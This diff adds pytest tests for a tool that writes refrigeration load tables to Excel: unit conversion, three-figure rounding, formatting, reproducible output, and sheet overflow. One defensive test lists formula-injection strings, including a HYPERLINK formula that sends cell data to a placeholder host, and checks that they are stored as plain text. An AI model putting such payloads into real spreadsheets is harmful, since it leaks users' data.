@@ -1,0 +1,162 @@
+"""The workbook, read back: its figures are those of print, and no text of a config file is a formula."""
+
+import copy
+import dataclasses
+import datetime
+import math
+import zipfile
+from decimal import ROUND_CEILING, ROUND_FLOOR, Decimal
+from pathlib import Path
+from typing import Any
+
+import openpyxl
+import pytest
+
+from tablegen.dataset.dataset import DataSet
+from tablegen.report import workbook
+from tablegen.report.workbook import write_workbook
+from tests.demo import demo_data, reprinted
+
+W_PER = {"IP": 1055.05585262 / 3.6, "SI": 1000.0}
+STATED = {"Minimum load": ("min_load_w", ROUND_CEILING), "Maximum load": ("max_load_w", ROUND_FLOOR)}
+
+
+def thinned(data: DataSet) -> DataSet:
+    """Every seventh group window and fortieth window, and every one that is empty, so that reading back is quick."""
+    groups, windows = data.group_windows, data.windows
+    return dataclasses.replace(
+        data,
+        group_windows=groups[groups["max_load_w"].isna() | (groups.index % 7 == 0)].reset_index(drop=True),
+        windows=windows[windows["max_load_w"].isna() | (windows.index % 40 == 0)].reset_index(drop=True),
+    )
+
+
+def table(sheet: Any) -> tuple[dict[str, str | None], list[dict[str, Any]]]:
+    """Units by heading, and the rows by heading."""
+    head, units, *rows = sheet.iter_rows(values_only=True)
+    return dict(zip(head, units, strict=True)), [dict(zip(head, row, strict=True)) for row in rows]
+
+
+@pytest.fixture(scope="module", params=["IP", "SI"])
+def made(request, tmp_path_factory) -> tuple[DataSet, Any]:
+    data = thinned(reprinted(demo_data(), units=request.param))
+    path = tmp_path_factory.mktemp("book") / "windows.xlsx"
+    write_workbook(data, path)
+    return data, openpyxl.load_workbook(path)
+
+
+def three_figures(value: float, rounding: str) -> float:
+    clean = Decimal(f"{value:.11e}")
+    step = Decimal(1).scaleb(clean.adjusted() - 2)
+    return float((clean / step).to_integral_value(rounding) * step)
+
+
+@pytest.mark.parametrize(("title", "frame"), [("Group windows", "group_windows"), ("Windows", "windows")])
+def test_loads_are_the_printed_ones_as_numbers(made, title, frame):
+    data, book = made
+    system = data.manifest["inputs"]["printing"]["units"]
+    units, rows = table(book[title])
+    source = getattr(data, frame)
+    assert len(rows) == len(source)
+    assert units["Minimum load"] == units["Maximum load"] == {"IP": "kBtu/h", "SI": "kW"}[system]
+    empty = 0
+    for row, (_, given) in zip(rows, source.iterrows(), strict=True):
+        expected = {
+            k: None if math.isnan(given[c]) else three_figures(given[c] / W_PER[system], r)
+            for k, (c, r) in STATED.items()
+        }
+        if expected["Minimum load"] is None or expected["Minimum load"] >= expected["Maximum load"]:
+            empty += 1
+            assert row["Minimum load"] is None and row["Maximum load"] is None
+            assert row["No window because"]
+            assert row["Minimum load set because"] is None
+        else:
+            assert {k: row[k] for k in expected} == expected
+            assert row["No window because"] is None
+            assert row["Maximum load set because"] == data.manifest["reasons"][given["max_reason"]]
+        kelvin = (row["SST (dew)"] + 459.67) / 1.8 if system == "IP" else row["SST (dew)"] + 273.15
+        assert kelvin == pytest.approx(given["sst_k"], abs=0.051)
+    assert empty > 20
+
+
+def test_headings_and_units_are_bold_and_stay_in_view(made):
+    _, book = made
+    assert book.sheetnames == ["About", "Group windows", "Windows", "Sizes"]
+    for sheet in book.worksheets[1:]:
+        assert sheet.freeze_panes == "C3"
+        assert all(cell.font.bold for row in sheet["A1:F2"] for cell in row)
+        assert [sheet["A1"].value, sheet["B1"].value] == ["Family", "Size"]
+        assert not sheet["C3"].font.bold
+
+
+def test_about_says_where_the_figures_come_from(made):
+    data, book = made
+    rows = [(a, b) for a, b in book["About"].iter_rows(values_only=True)]
+    about, printing = dict(rows), data.manifest["inputs"]["printing"]
+    assert [about[k] for k in ("Title", "House", "Notice", "Revision", "Date")] == [
+        printing[k] for k in ("title", "company", "notice", "revision", "date")
+    ]
+    assert about["Data fingerprint"] == data.fingerprint
+    degrees = {"IP": "105 °F", "SI": "40.6 °C"}[printing["units"]]
+    assert about["Rating point: Walk-in cooler, floating head pressure"].startswith(f"{degrees} saturated liquid")
+    assert sum(label == "Caution" for label, _ in rows) > 5
+
+
+HOSTILE = '=HYPERLINK("http://example.invalid/?"&A1,"open")', "+1+1", "@SUM(A1)", "-2+3", "\t=1+1", "#REF!"
+
+
+def test_no_text_is_a_formula(tmp_path):
+    data = thinned(demo_data())
+    inputs = copy.deepcopy(data.manifest["inputs"])
+    title, company, group, application, charge, family = HOSTILE
+    inputs["printing"].update(title=title, company=company)
+    for group_inputs in inputs["groups"].values():
+        group_inputs["title"] = group
+    for application_inputs in inputs["applications"].values():
+        application_inputs["title"] = application
+    for family_inputs in inputs["families"].values():
+        family_inputs["title"] = family_inputs["display_name"] = family
+        for element in family_inputs["elements"]:
+            element["title"] = charge
+    path = tmp_path / "windows.xlsx"
+    write_workbook(dataclasses.replace(data, manifest={**data.manifest, "inputs": inputs}), path)
+    with zipfile.ZipFile(path) as archive:
+        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
+    assert len(sheets) == 4
+    assert not any(b"<f>" in sheet or b"<f " in sheet or b't="e"' in sheet for sheet in sheets)
+    seen = set()
+    for sheet in openpyxl.load_workbook(path):
+        for cell in (c for row in sheet.iter_rows(max_row=200) for c in row if isinstance(c.value, str)):
+            assert cell.data_type == "s"
+            if cell.value.startswith(tuple("=+-@\t#")):
+                seen.add(cell.value)
+                assert cell.quotePrefix
+    assert seen >= set(HOSTILE)
+
+
+def test_the_clock_is_not_in_the_file(tmp_path):
+    data = thinned(demo_data())
+    paths = [tmp_path / "one.xlsx", tmp_path / "two.xlsx"]
+    for path in paths:
+        write_workbook(data, path)
+    assert paths[0].read_bytes() == paths[1].read_bytes()
+    assert_undated(paths[0], datetime.date.fromisoformat(data.manifest["inputs"]["printing"]["date"]))
+
+
+def assert_undated(path: Path, day: datetime.date) -> None:
+    properties = openpyxl.load_workbook(path, read_only=True).properties
+    assert properties.created.date() == properties.modified.date() == day
+    with zipfile.ZipFile(path) as archive:
+        assert {entry.date_time for entry in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
+
+
+def test_a_table_with_more_rows_than_a_sheet_may_have_goes_on_in_the_next(tmp_path, monkeypatch):
+    monkeypatch.setattr(workbook, "_MOST_ROWS", 7)
+    data = thinned(demo_data())
+    path = tmp_path / "windows.xlsx"
+    write_workbook(data, path)
+    book = openpyxl.load_workbook(path)
+    sheets = [book[name] for name in book.sheetnames if name.startswith("Sizes")]
+    assert [sheet.title for sheet in sheets[:2]] == ["Sizes", "Sizes (2)"]
+    assert sum(sheet.max_row - 2 for sheet in sheets) == len(data.sizes)
+    assert all(sheet.max_row <= 9 and sheet["A1"].value == sheets[0]["A1"].value for sheet in sheets)
